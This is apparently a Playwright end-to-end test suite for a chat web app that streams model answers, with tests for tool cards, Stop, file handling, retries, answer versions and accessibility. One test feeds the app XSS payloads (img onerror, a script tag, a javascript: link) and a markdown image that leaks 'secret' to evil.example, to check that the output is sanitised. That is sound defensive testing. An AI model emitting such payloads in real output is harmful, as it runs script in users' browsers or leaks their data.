import AxeBuilder from '@axe-core/playwright';
import { expect, test } from '@playwright/test';
import { send, setStage, signIn, signInByHand, watchErrors, type Stage } from './support.ts';

let stage: Stage;

test.beforeAll(async () => {
  stage = await setStage();
});

test.afterAll(() => stage.close());

/** A promise that a test resolves when the model may go on. */
const createHold = () => Promise.withResolvers<void>();

test('a person signs in, asks, and sees the answer stream with its tool card', async ({ page }) => {
  const errors = watchErrors(page);
  const hold = createHold();
  stage.models.script(
    {
      text: ['Let me **look**.'],
      calls: [{ id: 'a1', name: 'weather_fetch', arguments: '{"city":"Seestadt"}' }],
    },
    { text: ['It is ', 'overcast.'], hold: hold.promise },
  );
  await signInByHand(page, stage);
  await send(page, 'How is the weather in Seestadt?');

  await expect(page.getByText('Let me look.')).toBeVisible();
  await expect(page.getByRole('button', { name: /weather_fetch/ })).toBeVisible();
  await expect(page.getByText('Open-Meteo')).toBeVisible();
  await expect(page.getByText('It is', { exact: false }).last()).toBeVisible();
  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  hold.resolve();
  await expect(page.getByText('It is overcast.')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Send', exact: true })).toBeVisible();
  expect(errors).toEqual([]);
});

test('the model asks for a group, and the answer on the card lets it go on', async ({ page }) => {
  stage.models.script(
    {
      calls: [
        {
          id: 'q1',
          name: 'request_tool_activation',
          arguments: '{"group":"Scientific Research","reason":"To look up what tides are."}',
        },
      ],
    },
    { calls: [{ id: 'w1', name: 'wiki_lookup', arguments: '{"query":"Mercury"}' }] },
    { text: ['Now I know.'] },
  );
  await signIn(page, stage);
  await send(page, 'What is Mercury?');
  await expect(
    page.getByText('The model asks to switch on Scientific Research').first(),
  ).toBeVisible();
  await page.getByRole('button', { name: 'Enable' }).click();

  await expect(page.getByText('Now I know.')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Enable' })).toHaveCount(0);
  await page.getByRole('button', { name: /^Tools/ }).click();
  await expect(page.getByRole('switch', { name: /Scientific Research/ })).toBeChecked();
});

test('Stop ends the answer and says so', async ({ page }) => {
  stage.models.script({
    text: ['On and on.'],
    calls: [{ id: 's1', name: 'endless', arguments: '{}' }],
  });
  await signIn(page, stage);
  await send(page, 'Never end.');
  await expect(page.getByText('Going on and on.')).toBeVisible();
  await page.getByRole('button', { name: 'Stop' }).last().click();

  await expect(page.getByRole('article').getByText('You stopped the answer here.')).toBeVisible();
  await expect(page.getByText('On and on.', { exact: true })).toBeVisible();
});

test('a file goes along with a message, and can be had back', async ({ page }) => {
  stage.models.script({ text: ['Thank you for the file.'] });
  await signIn(page, stage);
  await page.locator('input[type=file]').setInputFiles({
    name: 'numbers.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from('a,b\n1,2\n'),
  });
  await expect(page.getByRole('listitem').filter({ hasText: 'numbers.csv' })).toContainText('8 B');
  await send(page, 'Here.');

  await expect(page.getByText('Thank you for the file.')).toBeVisible();
  const link = page.getByRole('link', { name: /numbers\.csv/ });
  const download = page.waitForEvent('download');
  await link.click();
  expect((await download).suggestedFilename()).toBe('numbers.csv');
});

test('a message whose answer from the server got lost is sent once, with its file', async ({
  page,
}) => {
  stage.models.script({ text: ['One file, once.'] });
  await signIn(page, stage);
  let isLost = false;
  await page.route('**/graphql', async (route) => {
    const isMessage = route.request().postData()?.includes('sendMessage') ?? false;
    if (!isMessage || isLost) return route.continue();
    isLost = true;
    await route.fetch();
    return route.abort();
  });
  await page.locator('input[type=file]').setInputFiles({
    name: 'once.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from('once'),
  });
  await expect(page.getByRole('listitem').filter({ hasText: 'once.txt' })).toContainText('4 B');
  await send(page, 'Take this.');
  await expect(page.getByText('The server cannot be reached.')).toBeVisible();
  await page.getByRole('button', { name: 'Send', exact: true }).click();

  await expect(page.getByText('One file, once.')).toBeVisible();
  await expect(page.getByText('Take this.', { exact: true })).toHaveCount(1);
  await expect(page.getByRole('link', { name: /once\.txt/ })).toHaveCount(1);
});

test('an edited question and a second answer stand beside the first ones', async ({ page }) => {
  stage.models.script({ text: ['First answer.'] }, { text: ['Second answer.'] });
  await signIn(page, stage);
  await send(page, 'First question');
  await expect(page.getByText('First answer.')).toBeVisible();
  await page.getByRole('button', { name: 'Answer again' }).click();
  await expect(page.getByText('Second answer.')).toBeVisible();
  await expect(page.getByText('2/2')).toBeVisible();
  await page.getByRole('button', { name: 'Earlier version' }).click();
  await expect(page.getByText('First answer.')).toBeVisible();

  stage.models.script({ text: ['Third answer.'] });
  await page.getByText('First question').hover();
  await page.getByRole('button', { name: 'Edit the message' }).click();
  const field = page.getByRole('textbox', { name: 'Edit the message' });
  await field.fill('Better question');
  await field.press('Tab');
  await page.keyboard.press('Enter');
  await expect(page.getByText('Third answer.')).toBeVisible();
  await expect(page.getByText('First question')).toHaveCount(0);
  await page.getByRole('button', { name: 'Earlier version' }).click();

  await expect(page.getByText('First question')).toBeVisible();
  await expect(page.getByText('Third answer.')).toHaveCount(0);
});

test('what a model writes cannot run, load or lead anywhere by itself', async ({ page }) => {
  const errors = watchErrors(page);
  const outside: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(stage.app.url)) outside.push(request.url());
  });
  stage.models.script({
    text: [
      '<img src=x onerror="window.hacked = 1"><script>window.hacked = 2</script>\n\n',
      '![leak](https://evil.example/?q=secret) [click](javascript:window.hacked=3) ',
      '[fine](https://example.org/)\n\nThe end.',
    ],
  });
  await signIn(page, stage);
  await send(page, 'Attack me.');

  await expect(page.getByText('The end.')).toBeVisible();
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked)).toBeUndefined();
  expect(outside).toEqual([]);
  await expect(page.getByRole('link', { name: 'click' })).toHaveCount(0);
  await expect(page.getByRole('link', { name: 'fine' })).toHaveAttribute('rel', /noopener/);
  expect(errors).toEqual([]);
});

for (const [width, scheme] of [
  [1440, 'light'],
  [390, 'dark'],
] as const) {
  test(`a chat has no barriers that axe finds, at ${width} px, ${scheme}`, async ({ page }) => {
    await page.setViewportSize({ width, height: 860 });
    await page.emulateMedia({ colorScheme: scheme });
    stage.models.script({
      text: [
        '# Title\n\nText with `code`.\n\n```js\nconst a = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |',
      ],
    });
    await signIn(page, stage);
    await send(page, 'Show me everything.');
    await expect(page.getByRole('table')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible();
    const { violations } = await new AxeBuilder({ page }).analyze();

    expect(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([]);
  });
}
